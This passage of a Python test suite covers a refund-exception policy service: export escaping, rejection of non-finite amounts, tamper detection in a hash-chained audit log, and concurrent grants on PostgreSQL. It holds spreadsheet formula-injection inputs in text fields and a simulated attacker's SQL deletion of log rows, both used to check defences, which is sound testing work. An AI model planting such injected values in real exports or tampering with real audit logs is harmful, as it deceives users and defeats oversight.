        client, decide(client, ONE_DAY_LATE)["decision_id"], justification=formula,
        suggestion="+SUM(A1:A9) " + text,
    )  # fmt: skip
    second = grant(client, decide(client, ONE_DAY_LATE)["decision_id"], justification=text)
    assert made["justification"] == formula  # the API gives the text as written
    rows = {row["id"]: row for row in export(client)}
    assert rows[made["id"]]["justification"] == "'" + formula
    assert rows[made["id"]]["suggestion"] == "'+SUM(A1:A9) " + text
    assert rows[second["id"]]["justification"] == text


def test_an_amount_must_be_a_finite_number(client: TestClient) -> None:
    # Python's JSON parser reads Infinity and NaN; 1e999 overflows to infinity
    decision_id = decide(client, ONE_DAY_LATE)["decision_id"]
    for amount in ("Infinity", "-Infinity", "NaN", "1e999"):
        raw = json.dumps(body(granted_outcome="partial", remedy={"kind": "partial_refund"}))
        raw = raw.replace('"partial_refund"}', '"partial_refund", "amount": ' + amount + "}")
        response = client.post(
            f"/v1/decisions/{decision_id}/exceptions",
            content=raw.encode(),
            headers={**auth("agent"), "Content-Type": "application/json"},
        )
        assert response.status_code == 422, (
            f"an amount of {amount} was accepted: {response.status_code} {response.text[:300]}"
        )
    assert listing(client) == []


# -- audit verify, the command -------------------------------------------------------------------


def test_audit_verify_options_and_errors(client: TestClient, db_url: str, tmp_path: Path) -> None:
    grant(client, decide(client, ONE_DAY_LATE)["decision_id"])
    first = subprocess.run(
        [str(POLICYCHECK), "audit", "verify", "--db", db_url, "--format", "json"],
        capture_output=True, text=True, timeout=60, check=False, env=SEALED,
    )  # fmt: skip
    assert first.returncode == 0, first.stderr
    report = json.loads(first.stdout)
    assert (report["ok"], report["sealed"]) == (True, True)
    assert (report["exceptions"]["entries"], report["exceptions"]["problem"]) == (1, None)
    assert (report["decisions"]["entries"], report["decisions"]["problem"]) == (1, None)
    head = report["exceptions"]["head"]
    assert head.startswith("sha256:")
    grant(client, decide(client, ONE_DAY_LATE)["decision_id"])
    run = [str(POLICYCHECK), "audit", "verify", "--db", db_url, "--head", head]
    verified = subprocess.run(run, capture_output=True, timeout=60, check=False, env=SEALED)
    assert verified.returncode == 0
    tamper(db_url, "DELETE FROM exception_log WHERE seq >= 1")  # everything, head included
    cut = subprocess.run(run, capture_output=True, text=True, timeout=60, check=False, env=SEALED)
    assert cut.returncode == 1, cut.stdout
    assert head in cut.stdout
    assert listing(client) == []  # the attacker removed the exception itself
    missing = f"sqlite:///{tmp_path / 'nowhere.db'}"
    absent = subprocess.run(
        [str(POLICYCHECK), "audit", "verify", "--db", missing],
        capture_output=True, text=True, timeout=60, check=False, env=SEALED,
    )  # fmt: skip
    assert absent.returncode == 2
    assert "Traceback" not in absent.stderr
    assert not (tmp_path / "nowhere.db").exists()  # verifying never creates a database


# -- two API processes granting at once ----------------------------------------------------------


@pytest.mark.skipif(not PG_URL, reason="POLICYCHECK_TEST_PG is not set")
def test_two_servers_on_one_postgresql_granting_at_once_keep_one_chain(tmp_path: Path) -> None:
    # (processes sharing a SQLite file: tests/store/test_exception_log.py, without servers)
    from test_serve_processes import serving

    assert PG_URL is not None
    reset_postgres(PG_URL)
    db_url = PG_URL

    shutil.copytree(ROOT / "rules", tmp_path / "work" / "rules")
    first_key, second_key, supervisor_key = (
        f"server-{who}-key-5f8c2a9e71d4" for who in ("one", "two", "supervisor")
    )
    spec = f"agent:{first_key},agent:{second_key},supervisor:{supervisor_key}"
    env = {"POLICYCHECK_API_KEYS": spec}
    with serving(tmp_path / "work", "--db", db_url, env=env) as (first, _), \
            serving(tmp_path / "work", "--db", db_url, env=env) as (second, _):  # fmt: skip

        def one(i: int) -> str:
            base, key = (first, first_key) if i % 2 else (second, second_key)
            headers = {"Authorization": f"Bearer {key}"}
            made = httpx.post(
                f"{base}/v1/decisions",
                json={"policy": TOMTOM, "facts": ONE_DAY_LATE},
                headers=headers,
                timeout=30,
            )
            assert made.status_code == 200, made.text
            url = f"{base}/v1/decisions/{made.json()['decision_id']}/exceptions"
            granted = httpx.post(url, json=body(), headers=headers, timeout=30)
            assert granted.status_code == 201, granted.text
            return str(granted.json()["id"])

        with ThreadPoolExecutor(max_workers=8) as pool:
            ids = list(pool.map(one, range(60)))
    assert len(set(ids)) == 60
    seal_file = tmp_path / "work" / "policycheck.seal"  # made by the first server, 0600
    assert seal_file.stat().st_mode & 0o777 == 0o600
    verified = audit(db_url, seal_file)
    assert verified.returncode == 0, verified.stdout
    assert "exception log: 60 entries, chain intact, every seal valid" in verified.stdout
    assert "decision log: 60 decisions, chain intact, every seal valid" in verified.stdout


def test_rates_over_rigid_refusals_count_only_exceptions_on_rigid_refusals(
    team: TestClient,
) -> None:
    for _ in range(2):
        made = grant(team, team_decide(team, LATE_AND_USED, AGENT_ONE), role="supervisor")
        assert made["beyond_discretion"] is True
    team_decide(team, ONE_DAY_LATE, AGENT_ONE)  # the one rigid refusal: nobody excepted it
    out = summary(team)
    assert out["totals"]["override_rate"] == 0.0
    for row in out["agents"]:
        assert row["team_rate"] == out["totals"]["override_rate"], row
        assert row["exception_rate"] is None or row["exception_rate"] <= 1, row
